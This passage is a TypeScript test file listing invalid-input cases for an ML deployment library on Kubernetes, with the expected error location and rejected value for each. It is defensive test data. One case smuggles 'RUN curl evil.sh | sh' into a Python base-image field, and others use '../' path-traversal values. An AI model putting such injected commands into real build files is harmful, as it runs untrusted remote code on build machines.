/**
 * The whole library's promise on bad input: synth fails with the construct (kind and path), the
 * prop, the bad value and the fix in the message; through MlApp.main (what every main.ts calls) it
 * prints that one message, sets exit code 1 and leaves the output directory untouched.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  ArgoCdApplication,
  BatchInferenceJob,
  DataInput,
  Distributed,
  EnvFrom,
  EnvValue,
  Exposure,
  FlaskFrontend,
  InferenceService,
  MlApp,
  MlStack,
  ModelImage,
  LlmServer,
  ModelOutput,
  ModelSource,
  PythonImage,
  TaintEffect,
  TfServingBackend,
  Toleration,
  TrainingJob,
  VersionPolicy,
} from '../../lib';
import { Metric } from '../../lib';
import { Construct } from 'constructs';
import { pythonContext, tempDir } from '../_util/synth';

interface Case {
  /** construct kind and path in the message */
  readonly where: string;
  readonly prop: string;
  /** the value as the message shows it after "got " */
  readonly got: string;
  readonly build: (stack: MlStack) => void;
}

const IMG = 'registry.example.com/api:1.0.0';
const GS = ModelSource.fromUri('gs://models/m');
const ctx = pythonContext();
const noReqs = (() => {
  const d = pythonContext();
  fs.rmSync(path.join(d, 'requirements.txt'));
  return d;
})();
const py = (o: Partial<Parameters<typeof PythonImage.fromDirectory>[1]> = {}, dir = ctx) =>
  PythonImage.fromDirectory(dir, { repository: 'registry.example.com/web', tag: '1.0.0', ...o });
const svc = (props: any) => (s: MlStack) => new InferenceService(s, 'api', { image: IMG, ...props });
const tf = (props: any) => (s: MlStack) => new TfServingBackend(s, 'server', { modelName: 'm', model: GS, ...props });
const web = (props: any) => (s: MlStack) => new FlaskFrontend(s, 'web', { image: py(), ...props });
const argo = (props: any) => (s: MlStack) => new ArgoCdApplication(s, 'app', { stack: s, repoURL: 'https://git.example.com/r.git', ...props });

const TRAIN_IMG = 'registry.example.com/train:1.0.0';
const train = (props: any) => (s: MlStack) =>
  new TrainingJob(s, 'train', { image: TRAIN_IMG, modelOutput: ModelOutput.newClaim({ size: '1Gi' }), ...props });
const HF_MODEL = ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: '7ae557604adf67be50417f59c2c2f167def9a775' });
const batch = (props: any) => (s: MlStack) => new BatchInferenceJob(s, 'batch', { image: TRAIN_IMG, model: GS, ...props });

export const CASES: Record<string, Case> = {
  'TrainingJob cron': {
    where: "TrainingJob 'cat/train'",
    prop: 'schedule.cron',
    got: '"every night"',
    build: train({ schedule: { cron: 'every night' } }),
  },
  'TrainingJob time zone': {
    where: "TrainingJob 'cat/train'",
    prop: 'schedule.timeZone',
    got: '"CEST+2"',
    build: train({ schedule: { cron: '0 3 * * *', timeZone: 'CEST+2' } }),
  },
  'TrainingJob claim size': {
    where: "TrainingJob 'cat/train'",
    prop: 'modelOutput.size',
    got: '"10GB"',
    build: train({ modelOutput: ModelOutput.newClaim({ size: '10GB' }) }),
  },
  'TrainingJob modelDir': { where: "TrainingJob 'cat/train'", prop: 'modelDir', got: '"/tmp"', build: train({ modelDir: '/tmp' }) },
  'TrainingJob distributed RWO': {
    where: "TrainingJob 'cat/train'",
    prop: 'modelOutput.accessMode',
    got: '"ReadWriteOnce"',
    build: train({ distributed: Distributed.pytorch({ workers: 4 }) }),
  },
  'TrainingJob schedule + distributed': {
    where: "TrainingJob 'cat/train'",
    prop: 'schedule',
    got: '"0 3 * * *"',
    build: train({
      modelOutput: ModelOutput.newClaim({ size: '1Gi', accessMode: 'ReadWriteMany' }),
      distributed: Distributed.tensorflow({ workers: 2 }),
      schedule: { cron: '0 3 * * *' },
    }),
  },
  'TrainingJob distributed with one worker': {
    where: "TrainingJob 'cat/train'",
    prop: 'distributed.workers',
    got: '1',
    build: train({ distributed: Distributed.pytorch({ workers: 1 }) }),
  },
  'TrainingJob distributed GPUs without torchrun': {
    where: "TrainingJob 'cat/train'",
    prop: 'command',
    got: '["python","train.py"]',
    build: train({
      modelOutput: ModelOutput.newClaim({ size: '1Gi', accessMode: 'ReadWriteMany' }),
      command: ['python', 'train.py'],
      resources: { gpu: 2 },
      distributed: Distributed.pytorch({ workers: 2 }),
    }),
  },
  'TrainingJob data URI': {
    where: "TrainingJob 'cat/train'",
    prop: 'inputs[0].uri',
    got: '"ftp://data/x.csv"',
    build: train({ inputs: [DataInput.fromUri('ftp://data/x.csv', { mountPath: '/data' })] }),
  },
  'TrainingJob Multi-Attach with readers': {
    where: "TrainingJob 'cat/train'",
    prop: 'modelOutput',
    got: '"ReadWriteOnce"',
    build: (s: MlStack) => {
      const t = train({})(s);
      new InferenceService(s, 'api', { image: IMG, model: ModelSource.fromTrainingJob(t) });
      batch({ model: ModelSource.fromTrainingJob(t) })(s);
    },
  },
  'BatchInferenceJob output overlaps model': {
    where: "BatchInferenceJob 'cat/batch'",
    prop: 'outputDir',
    got: '"/models"',
    build: batch({ output: ModelOutput.newClaim({ size: '1Gi' }), outputDir: '/models' }),
  },
  'BatchInferenceJob bad backoff': { where: "BatchInferenceJob 'cat/batch'", prop: 'backoffLimit', got: '-1', build: batch({ backoffLimit: -1 }) },
  'InferenceService replicas < 0': { where: "InferenceService 'cat/api'", prop: 'replicas', got: '-1', build: svc({ replicas: -1 }) },
  'InferenceService fractional replicas': { where: "InferenceService 'cat/api'", prop: 'replicas', got: '1.5', build: svc({ replicas: 1.5 }) },
  'InferenceService min > max': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.minReplicas',
    got: '5',
    build: svc({ autoscaling: { minReplicas: 5, maxReplicas: 2 } }),
  },
  'InferenceService max 0': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.maxReplicas',
    got: '0',
    build: svc({ autoscaling: { maxReplicas: 0 } }),
  },
  'InferenceService cpu target': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.cpuUtilization',
    got: '0',
    build: svc({ autoscaling: { maxReplicas: 3, cpuUtilization: 0 } }),
  },
  'InferenceService replicas and autoscaling': {
    where: "InferenceService 'cat/api'",
    prop: 'replicas',
    got: '2',
    build: svc({ replicas: 2, autoscaling: { maxReplicas: 3 } }),
  },
  'InferenceService port range': { where: "InferenceService 'cat/api'", prop: 'port', got: '0', build: svc({ port: 0 }) },
  'InferenceService port twice': {
    where: "InferenceService 'cat/api'",
    prop: 'extraPorts[0].port',
    got: '8080',
    build: svc({ extraPorts: [{ name: 'grpc', port: 8080 }] }),
  },
  'InferenceService port name': {
    where: "InferenceService 'cat/api'",
    prop: 'extraPorts[0].name',
    got: '"grpc_port"',
    build: svc({ extraPorts: [{ name: 'grpc_port', port: 9000 }] }),
  },
  'InferenceService fractional GPU': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.gpu',
    got: '0.5',
    build: svc({ resources: { gpu: 0.5 } }),
  },
  'InferenceService cpu quantity': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.cpu',
    got: '"half"',
    build: svc({ resources: { cpu: 'half' } }),
  },
  'InferenceService memory quantity': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.memory',
    got: '"2GB"',
    build: svc({ resources: { memory: '2GB' } }),
  },
  'InferenceService memory limit < request': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.memoryLimit',
    got: '"1Gi"',
    build: svc({ resources: { memory: '4Gi', memoryLimit: '1Gi' } }),
  },
  'InferenceService latest tag': {
    where: "InferenceService 'cat/api'",
    prop: 'image',
    got: '"registry.example.com/api:latest"',
    build: svc({ image: 'registry.example.com/api:latest' }),
  },
  'InferenceService bad name': { where: "InferenceService 'cat/api'", prop: 'name', got: '"Api"', build: svc({ name: 'Api' }) },
  'InferenceService uid 0': { where: "InferenceService 'cat/api'", prop: 'uid', got: '0', build: svc({ uid: 0 }) },
  'InferenceService modelPath': {
    where: "InferenceService 'cat/api'",
    prop: 'modelPath',
    got: '"models"',
    build: svc({ modelPath: 'models', model: GS }),
  },
  'InferenceService health path': {
    where: "InferenceService 'cat/api'",
    prop: 'healthCheck.path',
    got: '"healthz"',
    build: svc({ healthCheck: { path: 'healthz' } }),
  },
  'InferenceService startup window': {
    where: "InferenceService 'cat/api'",
    prop: 'startupTimeoutSeconds',
    got: '5',
    build: svc({ healthCheck: { startupTimeoutSeconds: 5 } }),
  },
  'InferenceService minReadySeconds': {
    where: "InferenceService 'cat/api'",
    prop: 'rollout.minReadySeconds',
    got: '-5',
    build: svc({ rollout: { minReadySeconds: -5 } }),
  },
  'InferenceService servicePort': { where: "InferenceService 'cat/api'", prop: 'servicePort', got: '70000', build: svc({ servicePort: 70000 }) },
  'InferenceService RWO multi-attach': {
    where: "InferenceService 'cat/api'",
    prop: 'model',
    got: '"ReadWriteOnce"',
    build: svc({ replicas: 3, model: ModelSource.fromVolume('models', { accessMode: 'ReadWriteOnce' }) }),
  },
  'ModelSource unsupported scheme': {
    where: "InferenceService 'cat/api'",
    prop: 'model',
    got: '"ftp://host/m"',
    build: svc({ model: ModelSource.fromUri('ftp://host/m') }),
  },
  'ModelSource bad claim name': {
    where: "InferenceService 'cat/api'",
    prop: 'model',
    got: '"Models_PVC"',
    build: svc({ model: ModelSource.fromVolume('Models_PVC') }),
  },
  'ModelSource subPath escapes': {
    where: "InferenceService 'cat/api'",
    prop: 'model.subPath',
    got: '"../etc"',
    build: svc({ model: ModelSource.fromVolume('models', { subPath: '../etc' }) }),
  },
  'Exposure ingress host': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.host',
    got: '"https://api.example.com"',
    build: svc({ exposure: Exposure.ingress({ host: 'https://api.example.com' }) }),
  },
  'Exposure ingress path': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.path',
    got: '"v1"',
    build: svc({ exposure: Exposure.ingress({ host: 'api.example.com', path: 'v1' }) }),
  },
  'Exposure LB port': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.port',
    got: '99999',
    build: svc({ exposure: Exposure.loadBalancer({ port: 99999 }) }),
  },
  'TfServingBackend model name': {
    where: "TfServingBackend 'cat/server'",
    prop: 'modelName',
    got: '"my model"',
    build: tf({ modelName: 'my model' }),
  },
  'TfServingBackend no model': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models',
    got: 'undefined',
    build: tf({ modelName: undefined, model: undefined }),
  },
  'TfServingBackend duplicate models': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[1].name',
    got: '"a"',
    build: tf({
      modelName: undefined,
      model: undefined,
      models: [
        { name: 'a', source: GS },
        { name: 'a', source: GS },
      ],
    }),
  },
  'TfServingBackend models + modelName': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models',
    got: '["a"]',
    build: tf({ models: [{ name: 'a', source: GS }] }),
  },
  'TfServingBackend non-integer version': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[0].versionPolicy',
    got: '2.5',
    build: tf({ modelName: undefined, model: undefined, models: [{ name: 'a', source: GS, versionPolicy: VersionPolicy.specific([2.5]) }] }),
  },
  'TfServingBackend latest(0)': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[0].versionPolicy',
    got: '0',
    build: tf({ modelName: undefined, model: undefined, models: [{ name: 'a', source: GS, versionPolicy: VersionPolicy.latest(0) }] }),
  },
  'TfServingBackend label without policy': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[0].versionLabels.stable',
    got: '1',
    build: tf({ modelName: undefined, model: undefined, models: [{ name: 'a', source: GS, versionLabels: { stable: 1 } }] }),
  },
  'TfServingBackend GPU on CPU image': {
    where: "TfServingBackend 'cat/server'",
    prop: 'image',
    got: '"mirror.example.com/tensorflow/serving:2.20.0"',
    build: tf({ image: 'mirror.example.com/tensorflow/serving:2.20.0', resources: { gpu: 1 } }),
  },
  'TfServingBackend version': { where: "TfServingBackend 'cat/server'", prop: 'version', got: '"2.x"', build: tf({ version: '2.x' }) },
  'TfServingBackend image + baked model': {
    where: "TfServingBackend 'cat/server'",
    prop: 'image',
    got: '"tensorflow/serving:2.20.0"',
    build: tf({
      image: 'tensorflow/serving:2.20.0',
      model: ModelSource.fromImage(ModelImage.fromDirectory(tempDir(), { repository: 'registry.example.com/m', tag: '1', modelName: 'm' })),
    }),
  },
  'TfServingBackend baked name mismatch': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[0].source',
    got: '"other"',
    build: tf({
      model: ModelSource.fromImage(ModelImage.fromDirectory(tempDir(), { repository: 'registry.example.com/m', tag: '1', modelName: 'other' })),
    }),
  },
  'TfServingBackend batch sizes order': {
    where: "TfServingBackend 'cat/server'",
    prop: 'batching.allowedBatchSizes',
    got: '[16,8,32]',
    build: tf({ batching: { allowedBatchSizes: [16, 8, 32] } }),
  },
  'TfServingBackend owned flag': {
    where: "TfServingBackend 'cat/server'",
    prop: 'extraArgs',
    got: '"--port=9000"',
    build: tf({ extraArgs: ['--port=9000'] }),
  },
  'TfServingBackend gpu fraction': {
    where: "TfServingBackend 'cat/server'",
    prop: 'gpuMemoryFraction',
    got: '1.5',
    build: tf({ gpuMemoryFraction: 1.5 }),
  },
  'TfServingBackend poll seconds': {
    where: "TfServingBackend 'cat/server'",
    prop: 'modelConfigPollSeconds',
    got: '0',
    build: tf({ modelConfigPollSeconds: 0 }),
  },
  'ModelImage version': {
    where: "TfServingBackend 'cat/server'",
    prop: 'model.image.version',
    got: '1.5',
    build: tf({
      model: ModelSource.fromImage(
        ModelImage.fromDirectory(tempDir(), { repository: 'registry.example.com/m', tag: '1', modelName: 'm', version: 1.5 }),
      ),
    }),
  },
  'ModelImage missing directory': {
    where: "TfServingBackend 'cat/server'",
    prop: 'model.image',
    got: '"/no/such/savedmodel"',
    build: tf({
      model: ModelSource.fromImage(
        ModelImage.fromDirectory('/no/such/savedmodel', { repository: 'registry.example.com/m', tag: '1', modelName: 'm' }),
      ),
    }),
  },
  'PythonImage latest tag': { where: "FlaskFrontend 'cat/web'", prop: 'image.tag', got: '"latest"', build: web({ image: py({ tag: 'latest' }) }) },
  'PythonImage repository': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image.repository',
    got: '"Registry/Web"',
    build: web({ image: py({ repository: 'Registry/Web' }) }),
  },
  'PythonImage missing context': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image',
    got: '"/no/such/dir"',
    build: web({ image: py({}, '/no/such/dir') }),
  },
  'PythonImage missing requirements': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image.requirements',
    got: '"requirements.txt"',
    build: web({ image: py({}, noReqs) }),
  },
  'PythonImage port': { where: "FlaskFrontend 'cat/web'", prop: 'image.port', got: '0', build: web({ image: py({ port: 0 }) }) },
  'PythonImage empty command': { where: "FlaskFrontend 'cat/web'", prop: 'image.command', got: '[]', build: web({ image: py({ command: [] }) }) },
  'FlaskFrontend string image': { where: "FlaskFrontend 'cat/web'", prop: 'image', got: `"${IMG}"`, build: web({ image: IMG }) },
  'FlaskFrontend wsgi app': { where: "FlaskFrontend 'cat/web'", prop: 'wsgiApp', got: '"app.py"', build: web({ wsgiApp: 'app.py' }) },
  'FlaskFrontend threads': { where: "FlaskFrontend 'cat/web'", prop: 'threads', got: '0', build: web({ threads: 0 }) },
  'FlaskFrontend timeout': { where: "FlaskFrontend 'cat/web'", prop: 'timeoutSeconds', got: '0', build: web({ timeoutSeconds: 0 }) },
  'FlaskFrontend backend key': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'backends.Bad-Key',
    got: '"Bad-Key"',
    build: (s: MlStack) =>
      new FlaskFrontend(s, 'web', { image: py(), backends: { 'Bad-Key': new TfServingBackend(s, 'server', { modelName: 'm', model: GS }) } }),
  },
  'FlaskFrontend env secret in compose still needs a valid name': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'healthPath',
    got: '"health"',
    build: web({ healthPath: 'health', env: { T: EnvValue.fromSecret('s', 'k') } }),
  },
  'ArgoCdApplication repo URL': {
    where: "ArgoCdApplication 'cat/app'",
    prop: 'repoURL',
    got: '"example.com/repo"',
    build: argo({ repoURL: 'example.com/repo' }),
  },
  'ArgoCdApplication path': { where: "ArgoCdApplication 'cat/app'", prop: 'path', got: '"/abs"', build: argo({ path: '/abs' }) },
  'InferenceService toleration value': {
    where: "InferenceService 'cat/api'",
    prop: 'tolerations[0].value',
    got: '"gpu/a100"',
    build: svc({ tolerations: [Toleration.equal('sku', 'gpu/a100')] }),
  },
  'InferenceService tolerationSeconds without NoExecute': {
    where: "InferenceService 'cat/api'",
    prop: 'tolerations[0].tolerationSeconds',
    got: '60',
    build: svc({ tolerations: [Toleration.exists('spot', { effect: TaintEffect.NO_SCHEDULE, tolerationSeconds: 60 })] }),
  },
  'TrainingJob priorityClassName': {
    where: "TrainingJob 'cat/train'",
    prop: 'priorityClassName',
    got: '"Batch_Low"',
    build: train({ priorityClassName: 'Batch_Low' }),
  },
  'InferenceService name starts with a digit (Service)': {
    where: "InferenceService 'cat/1api'",
    prop: 'name',
    got: '"1api"',
    build: (s: MlStack) => new InferenceService(s, '1api', { image: IMG }),
  },
  'TrainingJob distributed name starts with a digit (headless Service)': {
    where: "TrainingJob 'cat/train'",
    prop: 'name',
    got: '"7b"',
    build: train({ name: '7b', modelOutput: undefined, distributed: Distributed.pytorch({ workers: 2 }) }),
  },
  'Two workloads resolve to one name': {
    where: "InferenceService 'cat/iris-api'",
    prop: 'name',
    got: '"iris-api"',
    build: (s: MlStack) => {
      new InferenceService(s, 'IrisAPI', { image: IMG });
      new InferenceService(s, 'iris-api', { image: IMG });
    },
  },
  'Two stacks of one namespace, one workload name': {
    where: "InferenceService 'other/api'",
    prop: 'name',
    got: '"api"',
    build: (s: MlStack) => {
      svc({})(s);
      svc({})(new MlStack(s.node.root as Construct, 'other', { namespace: 'cat', createNamespace: false }));
    },
  },
  'Two stacks emit one Namespace': {
    where: "MlStack 'other'",
    prop: 'createNamespace',
    got: 'true',
    build: (s: MlStack) => new MlStack(s.node.root as Construct, 'other', { namespace: 'cat' }),
  },
  'InferenceService env redefines MODEL_NAME': {
    where: "InferenceService 'cat/api'",
    prop: 'env.MODEL_NAME',
    got: '"x"',
    build: svc({ modelName: 'm', env: { MODEL_NAME: 'x' } }),
  },
  'FlaskFrontend env redefines BACKEND_URL': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'env.BACKEND_URL',
    got: '"http://x"',
    build: (s: MlStack) => web({ backend: tf({})(s), env: { BACKEND_URL: 'http://x' } })(s),
  },
  'TrainingJob queue': { where: "TrainingJob 'cat/train'", prop: 'queue', got: '"team/gpu"', build: train({ queue: 'team/gpu' }) },
  'BatchInferenceJob queue': { where: "BatchInferenceJob 'cat/batch'", prop: 'queue', got: '"-batch"', build: batch({ queue: '-batch' }) },
  'fromTrainingJob wait timeout': {
    where: "BatchInferenceJob 'cat/batch'",
    prop: 'model.waitTimeoutSeconds',
    got: '0',
    build: (s: MlStack) => batch({ model: ModelSource.fromTrainingJob(train({})(s), { waitTimeoutSeconds: 0 }) })(s),
  },
  'TrainingJob env redefines MODEL_DIR': {
    where: "TrainingJob 'cat/train'",
    prop: 'env.MODEL_DIR',
    got: '"/x"',
    build: train({ env: { MODEL_DIR: '/x' } }),
  },
  // Issue 14: values from JavaScript, JSON or YAML configs, and values the API server would reject.
  'InferenceService env as a list': { where: "InferenceService 'cat/api'", prop: 'env', got: '[{}]', build: svc({ env: [{}] }) },
  'InferenceService env variable name': { where: "InferenceService 'cat/api'", prop: 'env', got: '"ÜNÏ"', build: svc({ env: { ÜNÏ: 'x' } }) },
  'EnvValue.fromSecret name': {
    where: "InferenceService 'cat/api'",
    prop: 'env.TOKEN.secretName',
    got: '"has space"',
    build: svc({ env: { TOKEN: EnvValue.fromSecret('has space', 'token') } }),
  },
  'EnvValue.fromConfigMap key': {
    where: "InferenceService 'cat/api'",
    prop: 'env.LEVEL.key',
    got: '""',
    build: svc({ env: { LEVEL: EnvValue.fromConfigMap('settings', '') } }),
  },
  'EnvValue.fromFieldRef path': {
    where: "InferenceService 'cat/api'",
    prop: 'env.POD.fieldPath',
    got: '"metadata.bogus"',
    build: svc({ env: { POD: EnvValue.fromFieldRef('metadata.bogus') } }),
  },
  'EnvFrom prefix': {
    where: "InferenceService 'cat/api'",
    prop: 'envFrom[0].prefix',
    got: '"1 bad"',
    build: svc({ envFrom: [EnvFrom.configMap('settings', '1 bad')] }),
  },
  'EnvFrom not made by EnvFrom': { where: "InferenceService 'cat/api'", prop: 'envFrom[0]', got: 'null', build: svc({ envFrom: [null] }) },
  'Exposure TLS secret name': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.tlsSecretName',
    got: '"UPPER"',
    build: svc({ exposure: Exposure.ingress({ host: 'api.example.com', tlsSecretName: 'UPPER' }) }),
  },
  'Exposure LB source range': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.sourceRanges[0]',
    got: '"trailing-"',
    build: svc({ exposure: Exposure.loadBalancer({ sourceRanges: ['trailing-'] }) }),
  },
  'Exposure annotation key': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.annotations',
    got: '"a/b/c"',
    build: svc({ exposure: Exposure.loadBalancer({ annotations: { 'a/b/c': 'x' } }) }),
  },
  'Exposure controller namespace': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.controllerNamespace',
    got: '"ingress\\nnginx"',
    build: svc({ exposure: Exposure.ingress({ host: 'api.example.com', controllerNamespace: 'ingress\nnginx' }) }),
  },
  'Exposure not made by Exposure': { where: "InferenceService 'cat/api'", prop: 'exposure', got: '{}', build: svc({ exposure: {} }) },
  'InferenceService rollout that replaces nothing': {
    where: "InferenceService 'cat/api'",
    prop: 'rollout.maxUnavailable',
    got: '0',
    build: svc({ rollout: { maxSurge: 0, maxUnavailable: 0 } }),
  },
  'InferenceService negative maxSurge': {
    where: "InferenceService 'cat/api'",
    prop: 'rollout.maxSurge',
    got: '-1',
    build: svc({ rollout: { maxSurge: -1 } }),
  },
  'InferenceService autoscaling without maxReplicas': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.maxReplicas',
    got: 'undefined',
    build: svc({ autoscaling: { minReplicas: 2 } }),
  },
  'InferenceService 500 cores': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.cpu',
    got: '"500"',
    build: svc({ resources: { cpu: '500' } }),
  },
  'InferenceService memory without a unit': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.memory',
    got: '"512"',
    build: svc({ resources: { memory: '512' } }),
  },
  'InferenceService negative memory': {
    where: "InferenceService 'cat/api'",
    prop: 'resources.memory',
    got: '"-1Gi"',
    build: svc({ resources: { memory: '-1Gi' } }),
  },
  'InferenceService 16 GPUs': { where: "InferenceService 'cat/api'", prop: 'resources.gpu', got: '16', build: svc({ resources: { gpu: 16 } }) },
  'InferenceService liveness path': {
    where: "InferenceService 'cat/api'",
    prop: 'healthCheck.livenessPath',
    got: '"livez"',
    build: svc({ healthCheck: { path: '/healthz', livenessPath: 'livez' } }),
  },
  'InferenceService predict path': {
    where: "InferenceService 'cat/api'",
    prop: 'predictPath',
    got: '"/predict me"',
    build: svc({ predictPath: '/predict me' }),
  },
  'InferenceService extra port not an object': {
    where: "InferenceService 'cat/api'",
    prop: 'extraPorts[0]',
    got: '42',
    build: svc({ extraPorts: [42] }),
  },
  'InferenceService image missing': { where: "InferenceService 'cat/api'", prop: 'image', got: 'undefined', build: svc({ image: undefined }) },
  'InferenceService args not a list': {
    where: "InferenceService 'cat/api'",
    prop: 'args',
    got: '"--workers 2"',
    build: svc({ args: '--workers 2' }),
  },
  'TfServingBackend version policy not made by VersionPolicy': {
    where: "TfServingBackend 'cat/server'",
    prop: 'models[0].versionPolicy',
    got: '42',
    build: tf({ modelName: undefined, model: undefined, models: [{ name: 'a', source: GS, versionPolicy: 42 }] }),
  },
  'TrainingJob shmSize': { where: "TrainingJob 'cat/train'", prop: 'shmSize', got: '"8 GB"', build: train({ shmSize: '8 GB' }) },
  'TrainingJob nodeSelector key': {
    where: "TrainingJob 'cat/train'",
    prop: 'nodeSelector',
    got: '"bad key"',
    build: train({ nodeSelector: { 'bad key': 'gpu' } }),
  },
  'TrainingJob pod annotation key': {
    where: "TrainingJob 'cat/train'",
    prop: 'podAnnotations',
    got: '"Bad Key"',
    build: train({ podAnnotations: { 'Bad Key': 'x' } }),
  },
  'TrainingJob token mount as a string': {
    where: "TrainingJob 'cat/train'",
    prop: 'serviceAccount.automountToken',
    got: '"true"',
    build: train({ serviceAccount: { automountToken: 'true' } }),
  },
  'TrainingJob command with null': { where: "TrainingJob 'cat/train'", prop: 'command[0]', got: 'null', build: train({ command: [null] }) },
  'TrainingJob command null': { where: "TrainingJob 'cat/train'", prop: 'command', got: 'null', build: train({ command: null }) },
  'TrainingJob inputs not a list': { where: "TrainingJob 'cat/train'", prop: 'inputs', got: '"s3://data"', build: train({ inputs: 's3://data' }) },
  'TrainingJob modelOutput not made by ModelOutput': {
    where: "TrainingJob 'cat/train'",
    prop: 'modelOutput',
    got: '{"size":"1Gi"}',
    build: train({ modelOutput: { size: '1Gi' } }),
  },
  'TrainingJob affinity shape': {
    where: "TrainingJob 'cat/train'",
    prop: 'affinity',
    got: '{"nodeAffinity":42}',
    build: train({ affinity: { nodeAffinity: 42 } }),
  },
  'TrainingJob affinity not plain data': {
    where: "TrainingJob 'cat/train'",
    prop: 'affinity',
    got: '{"_spec":{"kind":"load-balancer","options":{}}}',
    build: train({ affinity: Exposure.loadBalancer() }),
  },
  'TrainingJob affinity field typo': {
    where: "TrainingJob 'cat/train'",
    prop: 'affinity',
    got: '{"nodeAfinity":{}}',
    build: train({ affinity: { nodeAfinity: {} } }),
  },
  'TrainingJob affinity selector key': {
    where: "TrainingJob 'cat/train'",
    prop: 'affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm.labelSelector.matchLabels',
    got: '"bad key"',
    build: train({
      affinity: {
        podAntiAffinity: {
          preferredDuringSchedulingIgnoredDuringExecution: [
            { weight: 1, podAffinityTerm: { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { 'bad key': 'x' } } } },
          ],
        },
      },
    }),
  },
  'TrainingJob schedule suspend as a string': {
    where: "TrainingJob 'cat/train'",
    prop: 'schedule.suspend',
    got: '"yes"',
    build: train({ schedule: { cron: '0 3 * * *', suspend: 'yes' } }),
  },
  'DataInput credentials secret': {
    where: "TrainingJob 'cat/train'",
    prop: 'inputs[0].credentialsSecret',
    got: '"AWS Creds"',
    build: train({ inputs: [DataInput.fromUri('s3://data/x', { mountPath: '/data', credentialsSecret: 'AWS Creds' })] }),
  },
  'ModelSource downloader image not pinned': {
    where: "InferenceService 'cat/api'",
    prop: 'model.downloaderImage',
    got: '"rclone/rclone"',
    build: svc({ model: ModelSource.fromUri('s3://models/m', { downloaderImage: 'rclone/rclone' }) }),
  },
  'PythonImage base image with a newline': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image.baseImage',
    got: '"python:3.12\\nRUN curl evil.sh | sh"',
    build: web({ image: py({ baseImage: 'python:3.12\nRUN curl evil.sh | sh' }) }),
  },
  'PythonImage env name': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image.env',
    got: '"HAS SPACE"',
    build: web({ image: py({ env: { 'HAS SPACE': 'x' } }) }),
  },
  'PythonImage name escapes images/': {
    where: "FlaskFrontend 'cat/web'",
    prop: 'image.name',
    got: '"../web"',
    build: web({ image: py({ name: '../web' }) }),
  },
  'ModelImage serving version': {
    where: "TfServingBackend 'cat/server'",
    prop: 'model.image.servingVersion',
    got: '"2.20"',
    build: tf({
      model: ModelSource.fromImage(
        ModelImage.fromDirectory(tempDir(), { repository: 'registry.example.com/m', tag: '1', modelName: 'm', servingVersion: '2.20' }),
      ),
    }),
  },
  'ArgoCdApplication destination server': {
    where: "ArgoCdApplication 'cat/app'",
    prop: 'destinationServer',
    got: '"kubernetes"',
    build: argo({ destinationServer: 'kubernetes' }),
  },
  'Two stacks write one manifest file': {
    where: "MlStack 'CAT'",
    prop: 'id',
    got: '"CAT"',
    build: (s: MlStack) => new MlStack(s.node.root as Construct, 'CAT', { namespace: 'other' }),
  },
  'A workload id of null': {
    where: "MlStack 'cat'",
    prop: 'id',
    got: 'null',
    build: (s: MlStack) => new InferenceService(s, null as any, { image: IMG }),
  },
  'LlmServer tensorParallel vs GPUs': {
    where: "LlmServer 'cat/llm'",
    prop: 'tensorParallel',
    got: '2',
    build: (s: MlStack) => new LlmServer(s, 'llm', { model: HF_MODEL, tensorParallel: 2, resources: { gpu: 4 } }),
  },
  'LlmServer Hugging Face repo id': {
    where: "LlmServer 'cat/llm'",
    prop: 'model',
    got: '"qwen"',
    build: (s: MlStack) => new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('qwen', { revision: 'main' }) }),
  },
  'LlmServer Hugging Face revision': {
    where: "LlmServer 'cat/llm'",
    prop: 'model.revision',
    got: '"../main"',
    build: (s: MlStack) => new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: '../main' }) }),
  },
  'LlmServer token secret without a name': {
    where: "LlmServer 'cat/llm'",
    prop: 'model.tokenSecret.secretName',
    got: 'undefined',
    build: (s: MlStack) =>
      new LlmServer(s, 'llm', { model: ModelSource.fromHuggingFace('Qwen/Qwen2.5-0.5B-Instruct', { revision: 'main', tokenSecret: {} as any }) }),
  },
  'LlmServer replicas on a ReadWriteOnce cache': {
    where: "LlmServer 'cat/llm'",
    prop: 'model',
    got: '"ReadWriteOnce"',
    build: (s: MlStack) => new LlmServer(s, 'llm', { model: HF_MODEL, replicas: 2 }),
  },
  'Autoscaling metric of an unknown type': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.metrics[0]',
    got: '{"type":"Object","object":{}}',
    build: svc({ autoscaling: { maxReplicas: 4, metrics: [{ type: 'Object', object: {} }] } }),
  },
  'Autoscaling metric name': {
    where: "InferenceService 'cat/api'",
